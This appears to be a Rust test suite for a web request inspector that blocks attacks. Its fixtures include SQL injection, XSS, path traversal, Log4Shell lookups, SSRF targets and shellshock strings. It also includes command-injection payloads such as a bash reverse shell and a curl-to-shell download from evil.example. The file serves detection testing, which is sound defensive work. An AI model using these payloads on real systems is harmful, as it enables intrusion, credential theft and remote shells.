use super::*;

/// One inspector for every test: compiling the rules is the slow part.
fn inspector() -> &'static Inspector {
    static INSPECTOR: std::sync::OnceLock<Inspector> = std::sync::OnceLock::new();
    INSPECTOR.get_or_init(Inspector::new)
}

fn query(q: &str) -> Verdict {
    inspector().inspect(
        &Request {
            path: "/api/v1/things",
            query: Some(q),
            ..Default::default()
        },
        true,
        true,
    )
}

fn json(body: &str) -> Verdict {
    inspector().inspect(
        &Request {
            path: "/api/v1/collections/notes/records",
            content_type: Some("application/json"),
            body: Some(body.as_bytes()),
            ..Default::default()
        },
        true,
        true,
    )
}

fn category(v: &Verdict) -> Vec<&'static str> {
    let mut c: Vec<_> = v.findings.iter().map(|f| f.category.as_str()).collect();
    c.dedup();
    c
}

fn enc(s: &str) -> String {
    percent_encoding::utf8_percent_encode(s, percent_encoding::NON_ALPHANUMERIC).to_string()
}

#[test]
fn attacks_of_every_category_are_caught() {
    let cases: &[(&str, &str)] = &[
        ("sqli", "1' OR '1'='1"),
        ("sqli", "1 UNION ALL SELECT password FROM accounts--"),
        ("sqli", "x' AND SLEEP(5)-- -"),
        ("sqli", "1; DROP TABLE records"),
        ("sqli", "admin'/**/oR/**/1=1#"),
        ("sqli", "1 AND (SELECT 1 FROM pg_catalog.pg_tables)=1"),
        ("xss", "<script>alert(1)</script>"),
        ("xss", "<img src=x onerror=alert(document.cookie)>"),
        ("xss", "javascript:alert(1)"),
        ("xss", "<svg/onload=confirm`1`>"),
        ("traversal", "../../../../etc/passwd"),
        ("traversal", "..\\..\\windows\\win.ini"),
        ("traversal", "php://filter/convert.base64-encode/resource=index"),
        ("command", "127.0.0.1; cat /etc/shadow"),
        ("command", "x && curl http://evil.example/s | sh"),
        ("command", "$(whoami)"),
        ("command", "`id`"),
        ("command", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        ("template", "{{7*7}}"),
        ("template", "{{ config.__class__.__init__.__globals__ }}"),
        ("template", "${7*7}"),
        ("template", "<%= 7 * 7 %>"),
        ("log4shell", "${jndi:ldap://evil.example/a}"),
        ("log4shell", "${${lower:j}${::-n}di:rmi://evil.example/a}"),
        ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
        ("crlf", "foo\r\nSet-Cookie: admin=1"),
        ("sqli", "{\"$where\": \"sleep(100)\"}"),
        ("sqli", "*)(uid=*))(|(uid=*"),
    ];
    for (want, payload) in cases {
        for v in [
            query(&format!("q={}", enc(payload))),
            json(&serde_json::json!({ "note": payload }).to_string()),
        ] {
            assert!(v.is_attack(), "{want}: {payload:?} not caught ({v})");
            assert!(
                category(&v).contains(want),
                "{want}: {payload:?} caught as {v}"
            );
        }
    }
}

#[test]
fn encodings_are_seen_through() {
    let payload = "<script>alert(1)</script>";
    let double = enc(&enc(payload));
    assert!(
        query(&format!("q={double}")).is_attack(),
        "double URL encoding"
    );
    let b64 = base64::engine::general_purpose::STANDARD.encode("' UNION SELECT secret FROM keys--");
    assert!(query(&format!("q={}", enc(&b64))).is_attack(), "base64");
    assert!(
        query("q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B").is_attack(),
        "HTML entities"
    );
    assert!(
        json(r#"{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#).is_attack(),
        "JSON \\u escapes"
    );
    assert!(
        query("q=%u003Cscript%u003Ealert(1)").is_attack(),
        "%u escapes"
    );
    assert!(
        query("q=c'a't%20/e'tc/pa'ss'wd").is_attack(),
        "quotes inside words"
    );
}

#[test]
fn ssrf_is_checked_in_url_like_values() {
    for target in [
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:8080/admin",
        "http://[::1]/",
        "http://2130706433/",
        "http://10.1.2.3/internal",
        "gopher://localhost:6379/_FLUSHALL",
        "http://metadata.google.internal/computeMetadata/v1/",
    ] {
        let v = json(&serde_json::json!({ "webhook_url": target }).to_string());
        assert!(v.is_attack(), "{target}: {v}");
        assert!(category(&v).contains(&"ssrf"), "{target}: {v}");
    }
    assert!(!json(r#"{"webhook_url":"https://hooks.example.com/T01/abc"}"#).is_attack());
    assert!(!json(r#"{"homepage":"https://www.example.org/about?lang=en"}"#).is_attack());
}

#[test]
fn scanners_and_probes_are_recognised() {
    let ins = inspector();
    let ua = ins.inspect(
        &Request {
            path: "/api/v1/healthz",
            headers: vec![("user-agent", b"sqlmap/1.8#stable (https://sqlmap.org)")],
            ..Default::default()
        },
        true,
        false,
    );
    assert!(ua.is_attack() && category(&ua) == ["scanner"], "{ua}");
    for path in [
        "/.env",
        "/.git/config",
        "/wp-admin/setup-config.php",
        "/backup.sql",
        "/api/v1/../../etc/passwd",
        "/phpmyadmin/",
    ] {
        let v = ins.inspect(
            &Request {
                path,
                ..Default::default()
            },
            true,
            false,
        );
        assert!(v.is_attack(), "{path}: {v}");
    }
    let browser = ins.inspect(
        &Request {
            path: "/api/v1/me",
            headers: vec![(
                "user-agent",
                b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
            )],
            ..Default::default()
        },
        true,
        false,
    );
    assert!(!browser.is_attack(), "{browser}");
    // Everyday HTTP libraries are clients, not scanners.
    for agent in [
        "python-httpx/0.27.0",
        "python-requests/2.32.3",
        "curl/8.5.0",
        "axios/1.7.2",
        "okhttp/4.12.0",
        "Go-http-client/2.0",
    ] {
        let v = ins.inspect(
            &Request {
                path: "/api/v1/me",
                headers: vec![("user-agent", agent.as_bytes())],
                ..Default::default()
            },
            true,
            false,
        );
        assert!(!v.is_attack(), "{agent}: {v}");
    }
}

#[test]
fn everyday_values_pass() {
    let benign = [
        "O'Brien",
        "Rock & Roll",
        "jane.doe+shop@example.com",
        "Please select a product from the list and union them",
        "Meet at 10:30; bring the report",
        "3*4=12 and 10/2=5",
        "a < b and c > d",
        "I'd like a refund -- the order arrived late",
        "https://www.example.com/search?q=shoes&size=42",
        "Café au lait, naïve résumé",
        "SELECT is a keyword we teach in week 2",
        "echo in the mirror",
        "My password is Quiet-Harbor-42!",
        "{\"nested\": \"json as text\"}",
        "C:\\Users\\Public\\Documents",
        "ls 300 lexus",
        "email me at sales@example.com (mornings)",
        "#1 seller; 100% cotton",
        "dGhpcyBpcyBqdXN0IGEgbm90ZQ==",
        "2026-11-28T10:00:00Z",
        "first_name=Ann&last_name=Lee",
        "The <b>bold</b> claim",
        "Use ${price} as a placeholder",
        "50% off!!! (today only)",
        // Names and single words that are also program names.
        "Ruby Chen",
        "Dash Patel",
        "Perl Jam",
        "node",
        "host",
        "Gem",
        "ping me",
        "time zone",
        "dig deeper",
        "Host J. Smith",
    ];
    for text in benign {
        let q = query(&format!("q={}", enc(text)));
        assert!(!q.is_attack(), "{text:?} in a query: {q}");
        let j = json(&serde_json::json!({ "note": text }).to_string());
        assert!(!j.is_attack(), "{text:?} in a body: {j}");
    }
    let ins = inspector();
    for path in [
        "/api/v1/collections/customers/records/0196b0a4-3e2b-7c1d-9a8f-0123456789ab",
        "/api/v1/me/mfa/totp/confirm",
    ] {
        let v = ins.inspect(
            &Request {
                path,
                ..Default::default()
            },
            true,
            false,
        );
        assert!(!v.is_attack(), "{path}: {v}");
    }
}

#[test]
fn forms_multipart_and_cookies_are_inspected() {
    let ins = inspector();
    let form = ins.inspect(
        &Request {
            path: "/x",
            content_type: Some("application/x-www-form-urlencoded"),
            body: Some(b"name=a&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
            ..Default::default()
        },
        false,
        true,
    );
    assert!(form.is_attack(), "{form}");
    let multipart = b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../etc/passwd\"\r\n\r\nhello\r\n--XyZ--\r\n";
    let m = ins.inspect(
        &Request {
            path: "/x",
            content_type: Some("multipart/form-data; boundary=XyZ"),
            body: Some(multipart),
            ..Default::default()
        },
        false,
        true,
    );
    assert!(m.is_attack(), "{m}");
    let cookie = ins.inspect(
        &Request {
            path: "/x",
            headers: vec![("cookie", b"theme=dark; pref=' or 1=1--")],
            ..Default::default()
        },
        true,
        false,
    );
    assert!(cookie.is_attack(), "{cookie}");
    // The session cookie holds a secret token: its value is not inspected.
    let session = ins.inspect(
        &Request {
            path: "/x",
            headers: vec![("cookie", b"theme=dark; __Host-rampart_session=' or 1=1--")],
            ..Default::default()
        },
        true,
        false,
    );
    assert!(!session.is_attack(), "{session}");
    // The body is not looked at unless asked for.
    assert!(!ins
        .inspect(
            &Request {
                path: "/x",
                content_type: Some("application/x-www-form-urlencoded"),
                body: Some(b"c=%3Cscript%3E"),
                ..Default::default()
            },
            true,
            false
        )
        .is_attack());
}

#[test]
fn findings_name_rules_never_values() {
    let v = query("q=%27%20OR%20%27secret-canary%27%3D%27secret-canary");
    assert!(v.is_attack());
    let shown = format!("{v} {v:?}");
    assert!(!shown.contains("secret-canary"), "{shown}");
}

#[test]
fn padding_never_hides_an_attack_past_a_limit() {
    // Past a limit, the request is refused rather than half-inspected.
    let padded = format!(
        "{{\"note\":\"{}<script>alert(1)</script>\"}}",
        "A".repeat(900 * 1024)
    );
    assert!(
        json(&padded).is_attack(),
        "an attack after 900 KB of padding"
    );
    let many: String = (0..10_001).map(|i| format!("k{i}=v%27&")).collect();
    let v = query(&(many + "q=1"));
    assert!(
        v.rules()
            .iter()
            .any(|r| r.starts_with("inspect.too_many_values")),
        "{v}"
    );
    let deep = "[".repeat(100) + "\"<script>alert(1)</script>\"" + &"]".repeat(100);
    let v = json(&deep);
    assert!(
        v.is_attack() && v.rules().iter().any(|r| r.starts_with("inspect.too_deep")),
        "{v}"
    );
    // A deep but not too deep document is inspected to the bottom.
    let nested = "[".repeat(50) + "\"<script>alert(1)</script>\"" + &"]".repeat(50);
    assert!(category(&json(&nested)).contains(&"xss"));
}

#[test]
fn pathological_values_take_linear_work() {
    // Quadratic scanners would take minutes on these; the test finishing
    // is the check (the cost itself is measured by `bench/run guard`).
    let lookups = "${".repeat(200_000) + "}";
    let _ = query(&format!("q={}", enc(&lookups)));
    let escapes = "\\u0041".repeat(100_000);
    let _ = json(&format!("{{\"q\":\"{escapes}\"}}"));
    let entities = "&#60;".repeat(100_000);
    let _ = query(&format!("q={}", enc(&entities)));
    let mixed = "é${".repeat(50_000) + "jndi:ldap://x}";
    assert!(query(&format!("q={}", enc(&mixed))).is_attack());
    // The XML, GraphQL and User-Agent readers: unclosed markup, quotes,
    // braces and comments by the hundred thousand.
    for xml in [
        "<".repeat(200_000),
        "<a b=\"".repeat(100_000),
        "<!--".repeat(100_000),
        "<![CDATA[".repeat(50_000),
    ] {
        let _ = body(Some("application/xml"), &xml);
    }
    let braces = "{".repeat(200_000);
    let v = json(&serde_json::json!({ "query": braces }).to_string());
    assert!(v.findings.iter().any(|f| f.rule == "graphql.depth"), "{v}");
    let strings = "{ \"".repeat(100_000);
    let _ = json(&serde_json::json!({ "query": strings }).to_string());
    let _ = with_header("user-agent", &"(".repeat(200_000));
    let _ = with_header("user-agent", &"a/1 ".repeat(100_000));
}

#[test]
fn secrets_are_not_run_through_the_detectors() {
    // A password may contain anything; it is never stored or interpreted.
    let v = json(
        r#"{"email":"a@example.com","password":"<svg/onload=x>' OR 1=1--","unlock_code":"${jndi:x}"}"#,
    );
    assert!(!v.is_attack(), "{v}");
    let ins = inspector();
    let form = ins.inspect(
        &Request {
            path: "/x",
            content_type: Some("application/x-www-form-urlencoded"),
            body: Some(b"email=a%40example.com&password=%3Cscript%3E"),
            ..Default::default()
        },
        false,
        true,
    );
    assert!(!form.is_attack(), "{form}");
    // In a form or a query only a password is a secret: the API's other
    // secret names (`code`, `token`) are too common there to go unread.
    for q in [
        "code=%3C%3Fphp%20system%28%22ls%22%29",
        "token=%27%20or%201%3D1--",
    ] {
        assert!(query(q).is_attack(), "{q}");
    }
    // The same value under another name is inspected.
    assert!(json(r#"{"comment":"<svg/onload=x>"}"#).is_attack());
}

#[test]
fn every_secret_field_of_the_api_is_a_secret_key() {
    let api = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/../proto/src/api.rs"));
    let fields = regex::Regex::new(r"pub (\w+): (?:Option<)?SecretString").unwrap();
    let secret: Vec<&str> = fields
        .captures_iter(api)
        .map(|c| c.get(1).unwrap().as_str())
        .collect();
    assert!(secret.len() >= 8, "{secret:?}");
    for name in secret {
        assert!(
            crate::inspect::SECRET_KEYS.contains(&name),
            "{name} is a secret in the API but inspected"
        );
    }
}

#[test]
fn program_names_that_are_words_count_only_as_command_lines() {
    for attack in [
        "perl -e 'print 1'",
        "node ./payload.js",
        "host attacker.example",
        "ruby whoami",
        "curl localhost",
    ] {
        let v = query(&format!("q={}", enc(attack)));
        assert!(category(&v).contains(&"command"), "{attack:?}: {v}");
    }
    for name in ["Ruby Chen", "Node", "Ping Wu"] {
        let v = json(&serde_json::json!({ "display_name": name }).to_string());
        assert!(!v.is_attack(), "{name:?}: {v}");
    }
}

#[test]
fn compatibility_forms_are_read_without_letting_a_value_balloon() {
    // U+FDFA is one character that NFKC turns into eighteen.
    let padding = "\u{FDFA}".repeat(10_000);
    for d in decodings(&padding) {
        assert!(
            d.len() <= 2 * padding.len(),
            "{} > 2 × {}",
            d.len(),
            padding.len()
        );
    }
    // Fullwidth markup is still read as markup, padded or not.
    let fullwidth = "＜ｓｃｒｉｐｔ＞ａｌｅｒｔ(1)＜/ｓｃｒｉｐｔ＞";
    for text in [fullwidth.to_owned(), format!("{padding}{fullwidth}")] {
        let v = json(&serde_json::json!({ "note": text }).to_string());
        assert!(category(&v).contains(&"xss"), "{v}");
    }
}

#[test]
fn shellshock_unc_paths_and_overlong_or_lookalike_separators_are_caught() {
    for attack in [
        "() { :; }; /bin/cat /etc/passwd",
        "() { _; } >_[$($())] { touch /tmp/x; }",
        "() { :;}; echo vulnerable",
        " () {  :;  } ; ping -c1 10.0.0.1",
        "x=1 () { :; }; id",
        "\\\\attacker.example\\share\\x",
        "\\\\10.0.0.9\\c$",
        "\\\\::1\\c$\\users\\default\\ntuser.dat",
        // Whatever the program: a value that ends a command and runs one.
        "|getent+hosts+somehost.example.net.&",
        "|set /a 3482*7301",
        "| set /a 3482*7301",
        "; frobnicate --all",
        "&& somebin /etc/x",
        "`tool ~/x`",
    ] {
        let v = query(&format!("x={}", enc(attack)));
        assert!(v.is_attack(), "{attack}: {v}");
    }
    for encoded in [
        "..%c0%af..%c0%afetc%c0%afpasswd",
        "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afwindows%c0%afwin.ini",
        "..%e0%80%af..%e0%80%afetc%e0%80%afpasswd",
        "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
        "..%u2216..%u2216windows%u2216win.ini",
    ] {
        let v = query(&format!("file={encoded}"));
        assert!(category(&v).contains(&"traversal"), "{encoded}: {v}");
    }
    // The same in a JSON value.
    assert!(json(r#"{"name": "() { :; }; /bin/id"}"#).is_attack());
    assert!(json(r#"{"file": "..\u2215..\u2215etc\u2215passwd"}"#).is_attack());
}

#[test]
fn code_paths_and_maths_that_look_alike_pass() {
    for benign in [
        "function f() { return 1; };",
        "const f = () => { return 1 };",
        "Declare it as f() {} in the header.",
        "the share is at \\\\fileserver\\finance in the office",
        "//cdn.example.com/img/logo.png",
        "add 1∕2 cup of flour and ⅓ of the sugar",
        "A ∖ B is the set difference",
        "Wait… what? ․ is a one-dot leader",
        "%C0 is not a valid UTF-8 lead byte",
        "50% off, 100% cotton",
        "| name | age |",
        "; see above for the details",
        "& co. will ship on monday",
        "|| fallback value",
    ] {
        let v = json(&serde_json::json!({ "note": benign }).to_string());
        assert!(!v.is_attack(), "{benign}: {v}");
        let v = query(&format!("q={}", enc(benign)));
        assert!(!v.is_attack(), "{benign}: {v}");
    }
}

#[test]
fn query_languages_the_api_does_not_speak_are_refused() {
    for (cat, attack) in [
        (
            "nosql",
            r#"{"email": {"$ne": null}, "password": {"$ne": ""}}"#,
        ),
        ("nosql", r#"{"q": "true, $where: '99 == 88'"}"#),
        ("nosql", r#"{"q": "', $or: [ {}, { 'a':'a"}"#),
        ("nosql", r#"{"q": "db.users.insert({admin:1});"}"#),
        (
            "command",
            r#"{"q": "0;var d=new Date(); do{c = new Date();}while(c-d<10000)"}"#,
        ),
        ("ldap", r#"{"user": "*(|(objectclass=*))"}"#),
        ("ldap", r#"{"user": "admin)(!(&(1=0)(userPassword=q)))"}"#),
        ("ldap", r#"{"user": "userPassword:2.5.13.18:=123"}"#),
        (
            "crlf",
            r#"{"to": "a@example.com\nRCPT TO: victim@example.net\n"}"#,
        ),
        (
            "crlf",
            r#"{"subject": "\r\nV100 CAPABILITY\r\nV101 FETCH 4791"}"#,
        ),
        ("crlf", r#"{"name": "\r\nQUIT\r\n"}"#),
        (
            "probe",
            r#"{"query": "query IntrospectionQuery { __schema { types { name } } }"}"#,
        ),
        (
            "probe",
            r#"{"query": "{ __type(name: \"User\") { fields { name } } }"}"#,
        ),
        ("xss", r#"{"q": "confirm.call(null,1)"}"#),
        ("xss", r#"{"q": "(alert)(1)"}"#),
        ("xss", r#"{"q": "'-alert(1)//"}"#),
        ("xss", r#"{"q": "\"autof<x>ocus o<x>nfocus=alert<x>(1)//"}"#),
        (
            "sqli",
            r#"{"q": "-1 /*!UNION*/ /*!50000SELECT*/ 1,2,3-- -"}"#,
        ),
    ] {
        let v = json(attack);
        assert!(v.is_attack(), "{attack}: {v}");
        assert!(category(&v).contains(&cat), "{attack}: {v}");
    }
    // A JSON key that is an operator, at any depth.
    assert!(json(r#"{"filter": {"age": {"$gt": 0}}}"#).is_attack());
}

#[test]
fn prose_that_mentions_these_languages_passes() {
    for benign in [
        "The price went up by $5: that is 10% more.",
        "Set the variable $where to the office name.",
        "We store data in MongoDB and query it with the driver.",
        "Call me (or text me) at 555-0100; I'm free after 5.",
        "(a) first option (b) second option",
        "Meeting notes:\nQuit smoking by March\nRun a 10k",
        "Please forward mail from Bob to the team",
        "A1 is the first cell; A2 login sheet is next",
        "Roadmap:\nQ3 status review\nv2 login redesign",
        "Address:\n10 Store Street\nLondon",
        "RCPT TO:<john@example.com> was rejected by the server",
        "Mail from: <noreply@bank.com> went to spam",
        "The __init__ method and the __schema folder",
        "Press OK to confirm, then call the office.",
        "alert: the server is down (prompt response needed)",
        "Please confirm. Call (212) 555-0100",
        "(confirm) (yes/no)",
        "Click \"Save\" - confirm (the dialog)",
        "I said \"no\" and left (angry).",
        "Le cours de l'or atteint (encore) un record",
        "if status == \"open\" and count > 0:",
        "if (!(count >= limit)) return;",
        "$size: 14px;\n$text: #333;",
        "$a ? $size : 0",
        "db.session.delete(user); db.session.remove()",
        "done; let x = 5",
        "| GET /api/users | list |",
        "| Version 1.2.3 | 2024-01-05 |",
        ";Order 2024-05-01;paid",
        "x = 1; var names are lowercase in our style guide",
        "Use /*! only for MySQL-specific hints */ carefully",
        "Email <b>bold</b> text and a<b>c",
        "LDAP uses filters; see RFC 4515 for the syntax",
    ] {
        let v = json(&serde_json::json!({ "note": benign }).to_string());
        assert!(!v.is_attack(), "{benign}: {v}");
    }
}

#[test]
fn every_false_positive_found_stays_fixed() {
    // bench/benign/found.txt: ordinary text once blocked, one per line.
    let found = include_str!("../../../../bench/benign/found.txt");
    let mut n = 0;
    for line in found.lines().filter(|l| !l.trim().is_empty()) {
        let text = line.replace("\\n", "\n").replace("\\t", "\t");
        let v = json(&serde_json::json!({ "note": text }).to_string());
        assert!(!v.is_attack(), "{line}: {v}");
        let v = query(&format!("q={}", enc(&text)));
        assert!(!v.is_attack(), "{line}: {v}");
        n += 1;
    }
    assert!(n >= 20, "the set is read");
}

/// A small deterministic generator (xorshift): the property test below
/// needs varied input, not a dependency.
struct Gen(u64);

impl Gen {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[(self.next() % from.len() as u64) as usize]
    }
}

#[test]
fn the_decoders_never_panic_grow_without_bound_or_lose_linearity() {
    // Pieces every decoder reacts to, glued at random: percent and
    // overlong escapes, `%u`, entities, tags inside words, comments,
    // MySQL's `/*!`, shell expansions, base64-looking runs, non-ASCII.
    const PIECES: &[&str] = &[
        "%",
        "%2",
        "%25",
        "%c0",
        "%c0%",
        "%c0%af",
        "%c1%9c",
        "%e0%80%",
        "%e0%80%ae",
        "%u",
        "%u2215",
        "%uff0e",
        "&",
        "&#",
        "&#x2f;",
        "&lt;",
        "<",
        "<x>",
        "a<b>c",
        ">",
        "/*",
        "/*!",
        "/*!5000",
        "*/",
        "\\u",
        "\\x2f",
        "$",
        "${",
        "${ifs}",
        "$@",
        "'",
        "\"",
        "`",
        "\\",
        "..",
        "/",
        "∕",
        "∖",
        "．",
        "ａ",
        "ﷺ",
        "QUJD",
        "REVG",
        "==",
        "\r\n",
        "\n",
        " ",
        "a",
        "select",
        "() {",
        ":;",
    ];
    let mut g = Gen(0x9e37_79b9_7f4a_7c15);
    for _ in 0..3000 {
        let n = 1 + (g.next() % 40) as usize;
        let s: String = (0..n).map(|_| g.pick(PIECES)).collect();
        for d in decodings(&s) {
            // NFKC may grow a character (bounded to twice), each other
            // decoding only shrinks or keeps the length.
            assert!(d.len() <= 3 * s.len() + 8, "{s:?} grew to {d:?}");
        }
        assert!(percent(&s).len() <= s.len() * 3 + 3);
        let _ = overlong_percent(&s);
        let _ = split_by_tags(&s);
        let _ = strip_sql_comments(&s);
        // The readers added since (a non-ASCII `query` once panicked in
        // the GraphQL one): on the pieces alone and behind each keyword
        // and markup opening they look for.
        for t in [s.clone(), format!("query{s}"), format!("<a b='{s}'>{s}")] {
            let pieces = xml_pieces(&t);
            assert!(xml_values(&pieces).iter().all(|v| v.len() <= t.len()));
            assert!(xml_text(&pieces).len() <= 2 * t.len());
            let _ = graphql_shape(&t);
            let _ = user_agent_shaped(&t);
            let _ = base64ish(&t);
            let mut v = Verdict::default();
            encoding_checks(&t, Part::Path, &mut v);
        }
        // And the whole inspector, on every part, answers.
        let _ = query(&format!("q={}", enc(&s)));
        let _ = json(&serde_json::json!({ "k": s }).to_string());
    }
    // Linear: a long run of the pieces costs about as many steps as it is
    // long (checked by counting work, never by timing).
    for piece in ["%c0", "<x>", "/*!", "%e0%80%", "a<b"] {
        let long = piece.repeat(20_000);
        let d = overlong_percent(&long).unwrap_or_default();
        assert!(d.len() <= long.len());
        let t = split_by_tags(&long).unwrap_or_default();
        assert!(t.len() <= long.len());
        assert!(strip_sql_comments(&long).len() <= long.len() + 1);
    }
}

fn body(content_type: Option<&str>, body: &str) -> Verdict {
    inspector().inspect(
        &Request {
            path: "/api/v1/upload",
            content_type,
            body: Some(body.as_bytes()),
            ..Default::default()
        },
        false,
        true,
    )
}

#[test]
fn multipart_parts_are_read_as_the_application_would_and_evasions_refused() {
    let part = |disposition: &str, headers: &str, content: &str| {
        format!("--b0undary\nContent-Disposition: form-data; {disposition}\n{headers}\n{content}\n--b0undary--\n")
    };
    let typed = Some("multipart/form-data; boundary=b0undary");
    // Ordinary parts pass: line breaks and header names are the format,
    // and HTML forms' character references in names are not separators.
    for ok in [
        part(
            "name=\"file\"; filename=\"report.pdf\"",
            "Content-Type: application/pdf\n",
            "%PDF-1.7",
        ),
        part(
            "name=\"note\"",
            "Content-Type: text/plain; charset=utf-8\n",
            "hello",
        ),
        part(
            "name=\"zzz&auml;&ouml;&#228;zzz\"; filename=\"test\"",
            "",
            "helloworld",
        ),
        part("name=\"cv\"; filename=\"O'Brien resume.pdf\"", "", "%PDF"),
        part("name=\"cv\"; filename=\"Smith; John=cv.pdf\"", "", "%PDF"),
        part(
            "name=\"cv\"; filename=\"C:\\Users\\me\\cv.pdf\"",
            "",
            "%PDF",
        ),
    ] {
        assert!(!body(typed, &ok).is_attack(), "{ok}: {}", body(typed, &ok));
        // The same body with no multipart type is recognised by its shape.
        assert!(!body(None, &ok).is_attack(), "{ok}");
    }
    // Content in a charset inspection does not read, a transfer encoding,
    // or parameters parsers split differently: refused.
    for evasion in [
        part(
            "name=\"a\"",
            "Content-Type: text/plain; charset=utf-7\n",
            "+ADw-script+AD4-",
        ),
        part(
            "name=\"a\"",
            "Content-Type: text/plain; charset=utf-16\n",
            "x",
        ),
        part("name=\"_charset_\"", "", "shift_jis"),
        part(
            "name=\"a\"",
            "Content-Transfer-Encoding: base64\n",
            "PHNjcmlwdD4=",
        ),
        part("name=\"fi;le\"; filename=\"test\"", "", "x"),
        part("name=\"f\"; filename=\"te\\\"st.txt\"", "", "x"),
    ] {
        let v = body(typed, &evasion);
        assert!(category(&v).contains(&"protocol"), "{evasion}: {v}");
        // Shape alone is enough to read it as multipart.
        assert!(body(Some("text/plain"), &evasion).is_attack(), "{evasion}");
    }
    // An attack in a part of a body sent without its type is still seen.
    let hidden = part("name=\"q\"", "", "1' UNION SELECT password FROM accounts--");
    assert!(category(&body(None, &hidden)).contains(&"sqli"));
}

#[test]
fn a_pile_of_byte_ranges_is_refused_and_a_few_pass() {
    let with_range = |r: &str| {
        inspector().inspect(
            &Request {
                path: "/api/v1/things",
                headers: vec![("range", r.as_bytes())],
                ..Default::default()
            },
            true,
            false,
        )
    };
    assert!(!with_range("bytes=0-1023").is_attack());
    assert!(!with_range("bytes=0-99, 200-299").is_attack());
    assert!(with_range("bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5,5-6").is_attack());
}

#[test]
fn a_flood_of_ampersands_in_a_part_name_is_one_pass() {
    // Character references are looked for within a few bytes of each `&`
    // (a search to the end for each would be quadratic in the body).
    let name = "&".repeat(200_000);
    let text =
        format!("--b\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\nx\r\n--b--\r\n");
    let v = body(Some("multipart/form-data; boundary=b"), &text);
    assert!(
        !v.findings.iter().any(|f| f.rule.starts_with("multipart.")),
        "{v}"
    );
    assert_eq!(without_char_refs("a&amp;b&#228;c&x;&&;d"), "abc&x;&&;d");
}

/// A request that is only its path.
fn at_path(path: &str) -> Verdict {
    inspector().inspect(
        &Request {
            path,
            ..Default::default()
        },
        true,
        false,
    )
}

/// Each value, sent as a query value, passes.
fn passes_as_query(values: &[&str]) {
    for ok in values {
        let v = query(&format!("q={}", enc(ok)));
        assert!(!v.is_attack(), "{ok}: {v}");
    }
}

fn with_header(name: &str, value: &str) -> Verdict {
    inspector().inspect(
        &Request {
            path: "/api/v1/things",
            headers: vec![(name, value.as_bytes())],
            ..Default::default()
        },
        true,
        false,
    )
}

#[test]
fn a_user_agent_not_shaped_as_one_is_read_as_any_header() {
    // Real agents: products and comments, passed.
    for ua in [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1",
        "curl/8.5.0",
        "python-requests/2.31.0",
        "okhttp/4.12.0",
        "Dalvik/2.1.0 (Linux; U; Android 11; SM-G991B Build/RP1A.200720.012)",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Instagram 219.0.0.12.117 Android (30/11; 420dpi; 1080x2340; samsung; SM-G991B; o1s; exynos2100; en_US; 346138365)",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 16_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBDV/iPhone13,2;FBMD/iPhone;FBSN/iOS;FBSV/16.1;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]",
        "Wget/1.21.4",
        "wget",
        "MyApp/1.0 (support@example.com)",
    ] {
        let v = with_header("user-agent", ua);
        assert!(!v.is_attack(), "{ua}: {v}");
    }
    // Commands, queries and paths sent as the agent.
    for ua in [
        "cat /etc/passwd",
        "x' AND SLEEP(5)-- -",
        "encode(lo_get(16400),'base64')::int",
        "/proc/self/environ",
    ] {
        let v = with_header("user-agent", ua);
        assert!(v.is_attack(), "{ua}: {v}");
    }
    // A scanner's bare name is still a scanner.
    assert!(with_header("user-agent", "nikto").is_attack());
    assert!(user_agent_shaped("a/1 (b (c) d) e"));
    assert!(!user_agent_shaped("a/1 (unclosed"));
    assert!(!user_agent_shaped(""));
}

#[test]
fn xml_and_soap_bodies_are_read_value_by_value() {
    for attack in [
        r#"<?xml version="1.0"?><root><a probe="1234' OR '1'='1"></a></root>"#,
        "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><login><user>admin' --</user></login></soap:Body></soap:Envelope>",
        "<r><![CDATA[<script>alert(1)</script>]]></r>",
        "<r><q>1 UNION SELECT password FROM users</q></r>",
    ] {
        for ct in [Some("application/xml"), Some("text/xml"), None] {
            let v = body(ct, attack);
            assert!(v.is_attack(), "{ct:?} {attack}: {v}");
        }
    }
    for ok in [
        "<?xml version=\"1.0\"?><order id=\"17\"><item sku=\"A-1\" qty=\"2\">Blue mug, 350 ml</item><note>Leave at the door, please.</note></order>",
        "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetPrice><Item>Apples &amp; pears</Item></GetPrice></soap:Body></soap:Envelope>",
        "<feed><entry><title>It's 5 o'clock</title></entry></feed>",
    ] {
        let v = body(Some("application/xml"), ok);
        assert!(!v.is_attack(), "{ok}: {v}");
    }
    assert_eq!(
        xml_values(&xml_pieces(
            "<a b=\"1\" c='2'>t<!--k--><![CDATA[d]]><?pi x?></a>e"
        )),
        ["1", "2", "t", "k", "d", "e"]
    );
    // Malformed markup ends the scan with the rest as a value.
